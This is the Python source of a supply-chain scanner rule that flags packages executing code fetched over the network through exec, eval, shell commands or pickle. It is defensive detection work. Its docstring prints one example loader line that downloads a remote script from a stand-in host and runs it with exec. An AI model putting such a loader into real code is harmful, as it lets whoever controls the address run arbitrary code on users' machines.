"""What it sees
    Text or bytes that came over the network (`requests`, `urllib`, `httpx`, `aiohttp`, sockets, websockets, the
    output of `curl`) and are executed: by `exec`, `eval`, `compile`, `marshal.loads`, `types.FunctionType`, or as a
    whole shell command. Import aliases, helper functions, renamed built-ins and decoded layers are followed.

Why it matters
    Whoever controls the address decides what runs, per victim and at any later time; the package itself stays clean
    in every scan. It is the loader of most Python campaigns, graphalgo included.

Example
    exec(urllib.request.urlopen("https://files.example.test/startup.py").read())

What to do
    Do not install, import or run it. If it ran, treat the machine and every secret on it as exposed.

False alarms
    Bootstrap scripts of old build tools execute a setup helper that they fetch. The danger is the same.

References
    ATT&CK T1059.006 (Python), T1105 (Ingress Tool Transfer), T1195.001.
"""

from collections.abc import Iterator

from lazaretto.detect.pycode import Place, command_of, defanged, once, place, runs_code, short, starts_process
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.py_facts import Call
from lazaretto.parse.py_vocabulary import SHELLS
from lazaretto.parse.python import PythonModule

_EXECUTED = N_("executes code that it received over the network ({how})")
_EXECUTED_FROM = N_("executes code that it received from {address} ({how})")
_COMMAND = N_("runs a shell command that it received over the network")
_PICKLE = N_("loads pickled objects that it received over the network")


def check(view: PythonModule) -> Iterator[Match]:
    """Yield every execution of network data."""
    if not view.speaks("net") or not (view.speaks("exec") or view.speaks("process") or view.mentions(b"pickle")):
        return
    seen: set[object] = set()
    for call in view.facts.calls:
        direct = _received(call)
        if runs_code(call) and direct and once(seen, call.line):
            address = _source(view)
            yield Match(
                _EXECUTED_FROM if address else _EXECUTED,
                call.line,
                call.column,
                params={"how": call.name, "address": defanged(address)},
                excerpt=view.quote(call.line),
                confidence=Confidence.HIGH if direct == "net" else Confidence.MEDIUM,
                phase=view.phase(call.scope),
            )
        elif starts_process(call) and direct == "net" and _is_shell(call) and once(seen, call.line):
            yield Match(
                _COMMAND,
                call.line,
                call.column,
                excerpt=view.quote(call.line),
                phase=view.phase(call.scope),
                params={"command": short(command_of(call))},
            )
        elif call.name in {"pickle.loads", "cPickle.loads", "dill.loads"} and direct and once(seen, call.line):
            yield Match(
                _PICKLE,
                call.line,
                call.column,
                severity=Severity.LOW,
                confidence=Confidence.MEDIUM,
                excerpt=view.quote(call.line),
                phase=view.phase(call.scope),
            )


def _received(call: Call) -> str:
    tags = (
        call.arg(0, "source", "object", "args", "cmd", "command").tags
        if call.args or call.kwargs
        else call.receiver.tags
    )
    if "net" in tags:
        return "net"
    return "net~" if "net~" in tags else ""


def _is_shell(call: Call) -> bool:
    if call.name in SHELLS:
        return True
    shell = call.kwargs.get("shell")
    return shell is not None and shell.const is True and call.arg(0, "args").items is None


def _source(view: PythonModule) -> str:
    """Return the only remote address that the file names, or nothing."""
    found = {
        v.shape
        for c in view.facts.calls
        for v in c.args[:1]
        if v.shape.startswith(("http://", "https://")) and place(v.shape) > Place.LOCAL
    }
    return found.pop() if len(found) == 1 else ""


RULE = Rule(
    id="py/remote-code-executed",
    title=N_("Executes code received over the network"),
    view=PythonModule,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    phase=Phase.RUN,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1059.006", "T1105"),
)
